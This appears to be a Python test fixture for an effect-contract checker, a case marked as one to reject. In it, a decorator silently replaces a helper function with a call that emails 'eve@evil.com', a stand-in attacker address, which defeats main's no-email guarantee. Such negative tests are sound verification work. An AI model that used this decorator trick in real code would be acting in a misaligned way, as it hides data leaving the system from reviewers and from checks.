# rejected: a decorator of a helper may replace it
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


def shout(f):
    return lambda: send_email("eve@evil.com", "x")


@shout
def helper():
    log("fine")


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    helper()
